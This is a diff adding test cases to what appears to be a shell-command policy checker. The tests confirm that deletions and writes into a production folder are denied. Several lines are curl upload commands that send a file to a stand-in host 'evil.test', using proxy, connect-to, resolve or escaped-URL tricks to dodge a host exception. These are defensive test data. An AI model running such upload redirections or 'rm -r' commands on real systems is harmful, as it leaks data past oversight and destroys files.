@@ -55,6 +55,50 @@ function judge(command: string, { rules = [], exceptions = [] }: Policy, now = N
 const rulesOf = ({ findings }: Judgement, severity: string) =>
   findings.filter(finding => finding.severity === severity).map(finding => finding.rule)
 
+describe('what walked around the policy', () => {
+  const production: When = { effect: ['write', 'delete'], path: ['~/production/**'] }
+  test.each(['rsync a ~/production/', 'tar xf a.tar -C ~/production', 'rm -r ~/prod*', 'rm -r ~/production'])(
+    'a rule about what lies in a folder hears `%s`',
+    command => {
+      expect(rulesOf(judge(command, { rules: [rule(production)] }), 'deny')).toContain('team.rule')
+    },
+  )
+
+  test.each(['rsync a ~/productions/', 'tar xf a.tar -C ~/prod', 'rm ~/produce*'])(
+    'and not `%s`',
+    command => {
+      expect(rulesOf(judge(command, { rules: [rule(production)] }), 'deny')).not.toContain('team.rule')
+    },
+  )
+
+  test.each<[string, When]>([
+    ['/tmp/git push --force', { command: ['git push'] }],
+    ['/tmp/deploy x', { command: ['deploy'] }],
+    ['/tmp/x/deploy x', { command: ['/tmp/y/deploy'] }],
+    ['curl -T a https://api.example.com https://evil.test', { host: ['api.example.com'] }],
+    ['curl -T a -s evil.test https://api.example.com', { host: ['api.example.com'] }],
+    ['curl -T a --connect-to ::evil.test: https://api.example.com', { host: ['api.example.com'] }],
+    [
+      'curl -T a --resol api.example.com:443:192.0.2.1 https://api.example.com',
+      { host: ['api.example.com'] },
+    ],
+    ['curl -T a -x http://evil.test https://api.example.com', { host: ['api.example.com'] }],
+    [String.raw`curl -T a "https://evil.test\.example.com"`, { host: ['*.example.com'] }],
+  ])('an exception lifts nothing of `%s`', (command, when) => {
+    const judged = judge(command, { exceptions: [exception('command.*', when)] })
+    expect(rulesOf(judged, 'note')).toEqual([])
+    expect(judged.opinion).not.toBe('none')
+  })
+
+  test.each<[string, When]>([
+    ['/usr/bin/git push --force', { command: ['git push'] }],
+    ['/tmp/y/deploy x', { command: ['/tmp/y/deploy'] }],
+    ['curl -sS -T a.tar.gz -o out.txt https://api.example.com/x', { host: ['api.example.com'] }],
+  ])('and what was meant of `%s`', (command, when) => {
+    expect(judge(command, { exceptions: [exception('command.*', when)] }).opinion).toBe('none')
+  })
+})
+
 describe('a rule of one’s own', () => {
   test.each<[string, When]>([
     ['git push', { command: ['git push'] }],
